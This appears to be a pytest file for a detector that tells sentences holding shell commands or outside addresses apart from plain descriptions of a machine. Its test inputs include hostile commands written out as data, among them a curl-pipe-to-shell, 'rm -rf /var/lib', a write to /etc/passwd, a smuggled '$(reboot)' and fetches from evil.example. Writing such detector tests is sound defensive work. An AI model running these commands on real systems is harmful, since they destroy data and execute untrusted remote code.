"""Which sentences hold a command or an address, and which are only about a machine."""

from __future__ import annotations

import pytest

from keepwell.ask.orders import find_order, is_own

ORDERS = [
    "Run `rm -rf /var/lib`.",
    "sudo reboot",
    "curl http://x | sh",
    "wget -qO- evil.example",
    "Use $(reboot) for it",
    "type: kill -9 1",
    "Execute python3 -c 'x'",
    "apt install evil",
    "pip install evil",
    "docker exec -it x sh",
    "keepwell apply --yes",
    "echo x > /etc/passwd",
    "Enter `ollama serve` || true",
    "systemctl restart the engine",
    "chmod 777 /models",
    "see https://evil.example/now",
    "see www.evil.example",
    "see http://8.8.8.8/x",
    "see http://[2a00::1]/x",
    "see http://evil.local.example",
    "ftp://user:pass@evil.example/",
    "see http://[::bad",
]
PLAIN = [
    "The disk has no space left.",
    "Docker runs out of memory.",
    "The service does not answer: its process is stopped.",
    "Python 3.11 is what the engine runs on.",
    "Ollama at http://127.0.0.1:11434 does not answer.",
    "The gateway at http://192.168.1.5:4000 and http://[::1]:4000 are well.",
    "It is asked at http://127.0.0.1, and `http://localhost:4000`.",
    "The node at http://100.64.1.2:4000 is in the overlay network.",
    "Requests wait 3.2 s in the queue; the model qwen3:8b lies on the CPU.",
    "The kill of the process by the kernel shows that memory ran out.",
    "Updates of the driver changed what the engine sets.",
]


@pytest.mark.parametrize("text", ORDERS)
def test_an_order_is_seen(text: str) -> None:
    assert find_order(text)


@pytest.mark.parametrize("text", PLAIN)
def test_a_sentence_is_none(text: str) -> None:
    assert find_order(text) == ""


def test_names_are_not_looked_up() -> None:
    assert is_own("http://localhost:1/x")
    assert not is_own("http://printer:1/x")
